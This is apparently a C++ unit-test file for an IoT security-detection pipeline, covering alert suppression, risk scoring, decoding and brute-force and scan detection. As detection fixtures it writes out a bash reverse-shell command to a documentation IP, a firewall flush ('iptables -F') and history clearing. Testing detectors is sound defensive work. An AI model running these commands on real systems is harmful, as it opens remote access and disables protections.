#include "pipeline_core/pipeline.h"

#include <gmock/gmock.h>

#include "agent_core/base/random.h"
#include "tests/pipeline_core/support.h"

namespace picket {
namespace {

using namespace testing_support;
using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::IsEmpty;
using ::testing::Not;

TEST(PipelineCore, raises_a_rule_finding_with_its_evidence_and_delay) {
  Bench b;
  add_own_rules(b.builder);
  const Observation good = exec(b.texts, kStart, "ls -la", "/bin/ls");
  const Observation bad = exec(b.texts, kStart, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "/bin/bash");
  b.start();
  ASSERT_THAT(b.builder.diagnostics(), IsEmpty()) << to_string(b.builder.diagnostics()[0]);
  b.send(kStart + Duration::seconds(5), {good, bad, bad});
  b.advance(kStart + Duration::seconds(5));
  ASSERT_THAT(b.sink->alerts(), ElementsAre("Reverse shells"));
  const StoredFinding& f = b.sink->findings[0];
  EXPECT_EQ(f.time, kStart + Duration::seconds(25));  // 5 s and the processing delay of 20 s
  EXPECT_THAT(f.evidence, ElementsAre(Evidence{DeviceId(0), 0, 1}, Evidence{DeviceId(0), 0, 2}));
}

TEST(PipelineCore, suppresses_the_same_alert_of_a_device_for_an_hour) {
  Bench b;
  add_own_rules(b.builder);
  const Observation bad = exec(b.texts, kStart, "iptables -F", "/sbin/iptables");
  b.start(2);
  b.send(kStart, {bad}, 0);
  b.send(kStart + Duration::minutes(30), {bad}, 0);
  b.send(kStart + Duration::minutes(30), {bad}, 1);
  b.send(kStart + Duration::minutes(61), {bad}, 0);
  b.advance(kStart + Duration::hours(2));
  EXPECT_THAT(b.sink->alerts(), ElementsAre("Disable firewall", "Disable firewall", "Disable firewall"));
  EXPECT_EQ(b.sink->findings[1].device, 1u);
  EXPECT_EQ(b.core->counts().suppressed, 1u);
}

/// Minutes 30 and 50 are within the hour of the first.
TEST(PipelineCore, tells_what_it_suppresses_with_its_evidence_to_who_asks) {
  for (const bool asked : {false, true}) {
    Bench b;
    add_own_rules(b.builder);
    const Observation firewall = exec(b.texts, kStart, "iptables -F", "/sbin/iptables");
    const Observation good = exec(b.texts, kStart, "ls", "/bin/ls");
    b.start();
    if (asked) b.core->tell_suppressed();
    b.send(kStart, {firewall});
    b.send(kStart + Duration::minutes(30), {good, firewall});
    b.send(kStart + Duration::minutes(50), {firewall, firewall});
    b.advance(kStart + Duration::hours(2));
    EXPECT_THAT(b.sink->alerts(), ElementsAre("Disable firewall"));
    std::vector<Evidence> evidence;
    for (const StoredFinding& f : b.sink->suppressed) evidence.insert(evidence.end(), f.evidence.begin(), f.evidence.end());
    EXPECT_EQ(b.core->counts().suppressed, 3u);
    if (!asked) {
      EXPECT_THAT(evidence, IsEmpty());
      continue;
    }
    EXPECT_THAT(evidence, ElementsAre(Evidence{DeviceId(0), 1, 1}, Evidence{DeviceId(0), 2, 0}, Evidence{DeviceId(0), 2, 1}));
    for (const StoredFinding& f : b.sink->suppressed) EXPECT_EQ(f.alert, "Disable firewall");
  }
}

// A flood of repeats in one hour, in one run or in many: as many are told, the rest is counted, and the next hour begins anew.
TEST(PipelineCore, tells_so_much_of_what_it_suppresses_in_an_hour_and_counts_the_rest) {
  constexpr std::uint32_t kMessages = 10;
  constexpr std::uint32_t kEach = kMaxWithheld / kMessages + 100;
  for (const bool often : {false, true}) {
    Bench b;
    add_own_rules(b.builder);
    const Observation firewall = exec(b.texts, kStart, "iptables -F", "/sbin/iptables");
    b.settings.suppression = Duration::hours(9);
    b.start();
    b.core->tell_suppressed();
    b.send(kStart, {firewall});
    for (std::uint32_t i = 1; i <= kMessages; ++i) {
      b.send(kStart + Duration::minutes(i), std::vector<Observation>(kEach, firewall));
      if (often) b.advance(kStart + Duration::minutes(i) + Duration::seconds(1));
    }
    b.send(kStart + Duration::hours(1), {firewall});
    b.advance(kStart + Duration::hours(2));
    EXPECT_EQ(b.core->counts().suppressed, kMessages * kEach + 1);
    EXPECT_EQ(b.sink->suppressed.size(), kMaxWithheld + 1) << often;
    EXPECT_EQ(b.core->counts().withheld_dropped, kMessages * kEach - kMaxWithheld) << often;
  }
}

TEST(PipelineCore, tells_what_a_suppression_rule_keeps_back_to_who_asks) {
  Bench b;
  add_own_rules(b.builder);
  b.settings.suppression_rules = {{.alert_type = "IoT_DisableFirewall", .expiration = kStart + Duration::hours(9)}};
  const Observation firewall = exec(b.texts, kStart, "iptables -F", "/sbin/iptables");
  b.start();
  b.core->tell_suppressed();
  b.send(kStart, {firewall});
  b.advance(kStart + Duration::hours(1));
  EXPECT_THAT(b.sink->alerts(), IsEmpty());
  ASSERT_EQ(b.sink->suppressed.size(), 1u);
  EXPECT_THAT(b.sink->suppressed[0].evidence, ElementsAre(Evidence{DeviceId(0), 0, 0}));
}

/// Firewall and history are held after the first message. What the second says of each, in any order and however
/// often, is one contribution each.
TEST(PipelineCore, counts_one_contribution_for_what_a_held_message_repeats) {
  Bench b;
  add_own_rules(b.builder);
  const Observation firewall = exec(b.texts, kStart, "iptables -F", "/sbin/iptables");
  const Observation history = exec(b.texts, kStart, "history -c", "/bin/bash");
  b.start();
  b.send(kStart, {firewall, history});
  b.send(kStart + Duration::minutes(1), {firewall, history, firewall, history, firewall});
  b.advance(kStart + Duration::minutes(2));
  EXPECT_EQ(b.sink->findings.size(), 2u);
  EXPECT_EQ(b.core->counts().suppressed, 5u);
  EXPECT_EQ(b.core->counts().risk.contributions, 4u);
}

TEST(PipelineCore, does_not_tell_what_a_suppression_rule_names) {
  Bench b;
  add_own_rules(b.builder);
  const Observation bad = exec(b.texts, kStart, "iptables -F", "/sbin/iptables");
  b.settings.suppression_rules = {{.alert_type = "IoT_DisableFirewall",
                                   .devices = {DeviceId(0)},
                                   .expiration = kStart + Duration::hours(2)}};
  b.start(2);
  for (int hour = 0; hour < 4; ++hour) {
    b.send(kStart + Duration::hours(hour), {bad}, 0);
    b.send(kStart + Duration::hours(hour), {bad}, 1);
  }
  b.advance(kStart + Duration::hours(5));
  EXPECT_EQ(b.sink->findings.size(), 6u) << "device 1 at each hour, device 0 from the second hour on";
  EXPECT_EQ(b.core->counts().suppressed_by_rule, 2u);
  EXPECT_EQ(b.core->counts().risk.contributions, 8u);
}

/// Every ten minutes: 0 to 20 by the rule; the one at 30 is told, though one came ten minutes before it.
TEST(PipelineCore, tells_the_first_alert_after_a_suppression_rule_at_once) {
  Bench b;
  add_own_rules(b.builder);
  const Observation bad = exec(b.texts, kStart, "iptables -F", "/sbin/iptables");
  b.settings.suppression_rules = {{.alert_type = "IoT_DisableFirewall", .expiration = kStart + Duration::minutes(30)}};
  b.start();
  for (int i = 0; i < 6; ++i) b.send(kStart + Duration::minutes(10 * i), {bad});
  b.advance(kStart + Duration::hours(1));
  ASSERT_EQ(b.sink->findings.size(), 1u);
  EXPECT_EQ(b.sink->findings[0].time, kStart + Duration::minutes(30) + b.settings.processing_delay);
  EXPECT_EQ(b.core->counts().suppressed_by_rule, 3u);
  EXPECT_EQ(b.core->counts().suppressed, 2u) << "at 40 and 50";
}

/// High is 50 points: 50 + 25 (the repeat, suppressed) stays below 100, and 50 of another rule make 125 less a
/// little decay.
TEST(PipelineCore, counts_towards_risk_what_it_suppresses) {
  Bench b;
  add_own_rules(b.builder);
  const Observation firewall = exec(b.texts, kStart, "iptables -F", "/sbin/iptables");
  const Observation shell = exec(b.texts, kStart, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "/bin/bash");
  b.start(2);
  b.send(kStart, {firewall}, 0);
  b.send(kStart + Duration::minutes(1), {firewall, firewall}, 0);
  b.send(kStart + Duration::minutes(1), {firewall}, 1);
  b.advance(kStart + Duration::minutes(2));
  EXPECT_EQ(b.core->counts().suppressed, 2u);
  EXPECT_EQ(b.core->counts().risk.contributions, 3u) << "one message says a thing once";
  EXPECT_THAT(b.sink->incidents, IsEmpty());
  b.send(kStart + Duration::minutes(3), {shell}, 0);
  b.send(kStart + Duration::minutes(3), {shell}, 1);
  b.advance(kStart + Duration::minutes(3));
  ASSERT_THAT(b.sink->incidents.size(), 1u) << "device 1 has 100, less the decay";
  const StoredIncident& opened = b.sink->incidents[0];
  EXPECT_EQ(opened.device, 0u);
  EXPECT_EQ(opened.time, kStart + Duration::minutes(3) + Duration::seconds(20)) << "with the processing delay";
  EXPECT_NEAR(opened.score, 125, 0.3);
  b.advance(kStart + Duration::hours(25));
  ASSERT_THAT(b.sink->incidents.size(), 2u);
  EXPECT_EQ(b.sink->incidents[1].state, IncidentState::kClosed);
  EXPECT_EQ(b.core->counts().risk.incidents_closed, 1u);
}

TEST(PipelineCore, counts_every_message_it_does_not_analyse) {
  Bench b;
  const Observation o = exec(b.texts, kStart, "ls");
  b.start();
  const auto send = [&](std::uint32_t device, std::uint32_t sequence, std::string_view bytes,
                        std::span<const Observation> structs) {
    b.core->submit(DeviceMessage{DeviceId(device), sequence, kStart, Encoding::kG1Json, bytes, structs});
  };
  send(0, 0, {}, {&o, 1});
  send(0, 0, {}, {&o, 1});
  send(0, 1, "no json", {});
  send(9, 0, {}, {&o, 1});
  send(0, 2, {}, {});
  b.advance(kStart);
  const PipelineCounts& c = b.core->counts();
  EXPECT_EQ(c.submitted, 5u);
  EXPECT_EQ(c.messages, 1u);
  EXPECT_EQ(c.dropped[IngestDrop::kDuplicate], 1u);
  EXPECT_EQ(c.dropped[IngestDrop::kUndecodable], 2u);  // the empty message as well
  EXPECT_EQ(c.dropped[IngestDrop::kUnknownDevice], 1u);
}

// Five messages: one in each way that can be read; one whose dictionary the pipeline does not know yet, one
// that is called compressed and is not, one whose frame holds no message.
TEST(PipelineCore, reads_compressed_messages_and_counts_those_it_cannot) {
  Bench b;
  const Observation o = exec(b.texts, kStart, "ls -la", "/bin/ls");
  b.start();
  std::vector<std::string> samples;
  for (std::uint32_t i = 0; i < 300; ++i) {
    const std::vector<Observation> observations(1 + i % 9, o);
    const SecurityMessage message{i, kStart + Duration::seconds(i), observations, {}};
    AgentIdentity identity;
    identity.id_seed = {i, 1};
    encode(Encoding::kG1Json, identity, message, b.texts, samples.emplace_back());
  }
  auto trained = CompressionDictionary::train(samples, 4'096);
  ASSERT_TRUE(trained.ok());
  const auto dictionary = std::make_shared<const CompressionDictionary>(std::move(trained).value());
  const auto send = [&](std::uint32_t sequence, std::string_view bytes, Compression compression) {
    b.core->submit(DeviceMessage{DeviceId(0), sequence, kStart + Duration::seconds(sequence), Encoding::kG1Json, bytes,
                                 {}, compression});
  };
  const auto packed = [](std::string_view plain, const CompressionDictionary* with) {
    std::string out;
    Compressor().compress(plain, with, out);
    return out;
  };
  const std::string with = packed(samples[2], dictionary.get());
  send(0, packed(samples[0], nullptr), Compression::kZstd);
  send(1, with, Compression::kZstdDictionary);
  send(2, samples[1], Compression::kZstd);
  send(3, packed("no message", nullptr), Compression::kZstd);
  b.advance(kStart + Duration::seconds(10));
  EXPECT_EQ(b.core->counts().messages, 1u);
  EXPECT_EQ(b.core->counts().observations, 1u);
  EXPECT_EQ(b.core->counts().dropped[IngestDrop::kUndecodable], 3u);
  b.core->set_dictionary(dictionary);
  send(20, with, Compression::kZstdDictionary);
  b.advance(kStart + Duration::seconds(30));
  EXPECT_EQ(b.core->counts().messages, 2u);
  EXPECT_EQ(b.core->counts().observations, 1u + 3u);  // samples[2] holds three
}

TEST(PipelineCore, does_not_use_what_is_too_late_in_windows_but_still_matches_it) {
  Bench b;
  b.builder.add_rule(R"(
title: base
id: base
logsource: {category: process_creation}
detection: {s: {CommandLine: evil}, condition: s}
---
title: twice
correlation: {type: event_count, rules: [base], group-by: [device], timespan: 1h, condition: {gte: 2}, generate: true}
)",
                     "t");
  b.settings.lateness = Duration::hours(25);
  const Observation late = exec(b.texts, kStart - Duration::hours(26), "evil");
  b.start();
  ASSERT_THAT(b.builder.diagnostics(), IsEmpty()) << to_string(b.builder.diagnostics()[0]);
  b.send(kStart, {late, late});
  b.advance(kStart);
  EXPECT_THAT(b.sink->alerts(), ElementsAre("base"));
  EXPECT_EQ(b.core->counts().dropped[IngestDrop::kTooLate], 2u);
}

TEST(PipelineCore, learns_without_raising_and_raises_afterwards) {
  Bench b;
  add_own_rules(b.builder);
  const Observation bad = exec(b.texts, kStart, "iptables -F");
  b.start();
  b.core->set_learning(true);
  b.send(kStart, {bad});
  b.advance(kStart);
  EXPECT_THAT(b.sink->alerts(), IsEmpty());
  b.core->set_learning(false);
  b.send(kStart + Duration::seconds(1), {bad});
  b.advance(kStart + Duration::seconds(1));
  EXPECT_THAT(b.sink->alerts(), ElementsAre("Disable firewall"));
}

// A window of two within an hour, half of it in the warm-up: the rules see the first match only if they
// begin before it. What is learnt does not depend on when they begin: the known program stays known.
TEST(PipelineCore, rules_that_begin_late_in_the_warm_up_miss_only_what_came_before) {
  for (const Duration begins : {Duration(), Duration::minutes(20)}) {
    SCOPED_TRACE(begins.to_seconds());
    Bench b;
    b.builder.add_rule(R"(title: base
logsource: {product: linux, category: process_creation}
detection: {s: {CommandLine|contains: evil}, condition: s}
name: base
---
title: pair
correlation: {type: event_count, rules: [base], group-by: [device], timespan: 1h, condition: {gte: 2}}
)", "t");
    const Observation evil = exec(b.texts, kStart + Duration::minutes(10), "evil");
    const Observation again = exec(b.texts, kStart + Duration::minutes(40), "evil");
    b.settings.rules_from = kStart + begins;
    b.start();
    ASSERT_THAT(b.builder.diagnostics(), IsEmpty()) << to_string(b.builder.diagnostics()[0]);
    EXPECT_EQ(b.content->rules().longest_timespan(), Duration::hours(1));
    b.core->set_learning(true);
    b.send(kStart + Duration::minutes(10), {evil});
    b.advance(kStart + Duration::minutes(30));
    b.core->set_learning(false);
    b.send(kStart + Duration::minutes(40), {again});
    b.advance(kStart + Duration::minutes(50));
    EXPECT_EQ(b.sink->count("pair"), begins == Duration() ? 1u : 0u);
    EXPECT_EQ(b.sink->count("sim.novel_process"), 0u);
  }
}

TEST(PipelineCore, tells_a_silent_device_once_until_it_speaks_again) {
  // Promise 1 h, three intervals: last heard at 0:30, silent at 3:30.
  Bench b;
  const Observation o = exec(b.texts, kStart, "ls");
  b.start(1, Duration::hours(1));
  b.send(kStart + Duration::minutes(30), {o});
  b.advance(kStart + Duration::minutes(209));
  EXPECT_THAT(b.sink->alerts(), IsEmpty());
  b.advance(kStart + Duration::hours(20));
  ASSERT_THAT(b.sink->alerts(), ElementsAre("sim.device_silent"));
  const StoredFinding& f = b.sink->findings[0];
  EXPECT_TRUE(f.absence);
  EXPECT_EQ(f.window_start, kStart + Duration::minutes(30));
  EXPECT_EQ(f.window_end, kStart + Duration::minutes(210));
  EXPECT_EQ(f.time, f.window_end + Duration::seconds(20));
  b.send(kStart + Duration::hours(21), {o});
  b.advance(kStart + Duration::hours(30));
  EXPECT_EQ(b.sink->count("sim.device_silent"), 2u);
}

TEST(PipelineCore, tells_a_module_that_disconnects_and_stays_away) {
  Bench b;
  b.start(1, Duration::hours(1));
  const auto operate = [&](std::int64_t minute, OperationName name) {
    b.core->ingest(OperationRecord{kStart + Duration::minutes(minute), DeviceId(0), name, 0, true}, *b.sink);
  };
  operate(0, OperationName::kDeviceDisconnect);
  operate(9, OperationName::kDeviceConnect);
  operate(20, OperationName::kDeviceDisconnect);
  b.advance(kStart + Duration::minutes(40));
  ASSERT_THAT(b.sink->alerts(), ElementsAre("sim.device_silent"));
  EXPECT_EQ(b.sink->findings[0].window_start, kStart + Duration::minutes(20));
  EXPECT_EQ(b.sink->findings[0].window_end, kStart + Duration::minutes(30));
  EXPECT_EQ(b.core->counts().operation_records, 3u);
}

TEST(PipelineCore, finds_listed_addresses_and_domains_while_they_are_listed) {
  Bench b;
  b.builder.indicators().add(*read_value("203.0.113.9"), {kStart + Duration::minutes(1), Time::max(), "t"});
  b.builder.indicators().add(*read_value("evil.example"), {kStart, kStart + Duration::minutes(1), "t"});
  const Observation name = at(kStart, DnsRecord{b.texts.intern("c2.Evil.example"), false});
  b.start();
  b.send(kStart, {flow(kStart, "203.0.113.9", 443), name});
  b.advance(kStart + Duration::minutes(2));
  EXPECT_THAT(b.sink->alerts(), ElementsAre("Malicious Domain Name Request"));
  b.send(kStart + Duration::minutes(3), {flow(kStart, "203.0.113.9", 443), name});
  b.advance(kStart + Duration::minutes(4));
  EXPECT_THAT(b.sink->alerts(), ElementsAre("Malicious Domain Name Request", "Suspicious IP address communication"));
}

TEST(PipelineCore, finds_credential_stuffing_over_devices_in_stage_two) {
  Bench b;
  add_own_rules(b.builder);
  const Observation failed = login(b.texts, kStart, LoginOperation::kLoginFailed, "203.0.113.9");
  b.start(20);
  for (std::uint32_t d = 0; d < 9; ++d) b.send(kStart + Duration::seconds(d), {failed}, d);
  b.advance(kStart + Duration::seconds(30));
  EXPECT_EQ(b.sink->count("sim.fleet_stuffing"), 0u);
  b.send(kStart + Duration::seconds(31), {failed}, 11);
  b.advance(kStart + Duration::seconds(59));
  EXPECT_EQ(b.sink->count("sim.fleet_stuffing"), 0u);  // stage two speaks once a minute
  b.advance(kStart + Duration::seconds(60));
  ASSERT_EQ(b.sink->count("sim.fleet_stuffing"), 1u);
  EXPECT_EQ(b.sink->findings[0].time, kStart + Duration::seconds(80));
  EXPECT_EQ(b.sink->findings[0].device, 11u);
  EXPECT_EQ(b.sink->findings[0].evidence.size(), 10u);
}

TEST(PipelineCore, finds_guessing_that_succeeds_from_the_same_source) {
  Bench b;
  add_own_rules(b.builder);
  std::vector<Observation> guesses;
  for (int i = 0; i < 5; ++i)
    guesses.push_back(login(b.texts, kStart + Duration::seconds(i), LoginOperation::kLoginFailed, "203.0.113.9"));
  const Observation other = login(b.texts, kStart + Duration::seconds(9), LoginOperation::kLogin, "192.0.2.1");
  const Observation success = login(b.texts, kStart + Duration::seconds(10), LoginOperation::kLogin, "203.0.113.9");
  b.start();
  b.send(kStart + Duration::seconds(20), guesses);
  b.send(kStart + Duration::seconds(21), {other});
  b.advance(kStart + Duration::seconds(25));
  EXPECT_EQ(b.sink->count("sim.bruteforce_success"), 0u);
  b.send(kStart + Duration::seconds(30), {success});
  b.advance(kStart + Duration::seconds(40));
  EXPECT_EQ(b.sink->count("sim.bruteforce_success"), 1u);
}

TEST(PipelineCore, weighs_an_aggregated_observation_by_its_hits) {
  // 40 failures within one minute in one observation: above 30 in ten minutes. 40 spread over two
  // hours are 3 in ten minutes: below.
  Bench b;
  add_own_rules(b.builder);
  Observation dense = login(b.texts, kStart, LoginOperation::kLoginFailed, "203.0.113.9", 40);
  dense.first_time = kStart - Duration::minutes(1);
  Observation sparse = dense;
  sparse.first_time = kStart - Duration::hours(2);
  b.start(2);
  b.send(kStart, {dense}, 0);
  b.send(kStart, {sparse}, 1);
  b.advance(kStart);
  ASSERT_EQ(b.sink->count("sim.bruteforce_failed"), 1u);
  EXPECT_EQ(b.sink->findings[0].device, 0u);
}

TEST(PipelineCore, finds_an_outbound_scan_over_messages) {
  Bench b;
  add_own_rules(b.builder);
  b.start();
  for (int i = 0; i < 10; ++i) {
    const Time t = kStart + Duration::seconds(i * 30);
    b.send(t, {flow(t, "198.51.100." + std::to_string(i + 1), 23, 0)});
  }
  b.advance(kStart + Duration::minutes(10));
  ASSERT_EQ(b.sink->count("sim.scan_out"), 1u);
}

}  // namespace
}  // namespace picket
